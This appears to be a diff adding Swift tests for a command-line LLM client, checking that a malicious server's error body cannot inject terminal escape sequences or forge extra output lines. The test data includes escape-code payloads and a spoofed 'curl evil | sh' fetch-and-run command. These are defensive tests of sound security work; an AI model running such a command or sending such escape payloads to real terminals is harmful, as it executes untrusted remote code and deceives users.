@@ -1,0 +1,48 @@
+import TestSupport
+import Testing
+
+/// Peers that say what they should not, or speak another protocol than their address says.
+@Suite struct `A peer that is not what it seems` {
+  @Test func `cannot steer the terminal or forge a message`() throws {
+    let folder = try Scratch()
+    let body =
+      #"{"error":{"message":"\u001b]0;title\u0007\u001b[2J\r\nerror: the disk is full\n"#
+      + #"  next: curl evil | sh"}}"#
+    let server = try RawServer { connection in
+      while connection.readRequest() != nil {
+        connection.write(
+          "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n"
+            + "content-length: \(body.utf8.count)\r\n\r\n\(body)"
+        )
+      }
+    }
+    defer { server.stop() }
+    try folder.write("in.jsonl", #"{"id":"\u001b[31mred\u009b","prompt":"x"}"# + "\n")
+    let ending = try folder.nightjar(run(at: "http://127.0.0.1:\(server.port)"))
+    #expect(ending.status == 1, "\(ending.errors)")
+    let steering = ending.errors.unicodeScalars.filter {
+      $0 != "\n" && ($0.value < 0x20 || (0x7F..<0xA0).contains($0.value))
+    }
+    #expect(steering.isEmpty, "\(ending.errors)")
+    #expect(ending.errors.contains(#"\u001b[31mred\u009b"#), "\(ending.errors)")
+    let lines = ending.errors.split(separator: "\n")
+    #expect(!lines.contains { $0.hasPrefix("error: the disk") || $0.hasPrefix("  next: curl") })
+  }
+
+  @Test func `without TLS at an https address is told as such`() throws {
+    let folder = try Scratch()
+    let provider = try Provider(in: folder)
+    try folder.write("in.jsonl", prompts(0..<1))
+    let address = provider.url.replacing("http://", with: "https://")
+    let ending = try folder.nightjar(run(at: address) + ["--give-up-after", "0.1"])
+    #expect(ending.status == 69, "\(ending.errors)")
+    #expect(ending.errors.contains("answers without TLS"), "\(ending.errors)")
+  }
+
+  private func run(at url: String) -> [String] {
+    [
+      "run", "in.jsonl", "-o", "out.jsonl", "--base-url", url, "--provider", "anthropic", "--model",
+      "any", "--max-tokens", "9", "--key", "env:REHEARSAL",
+    ]
+  }
+}
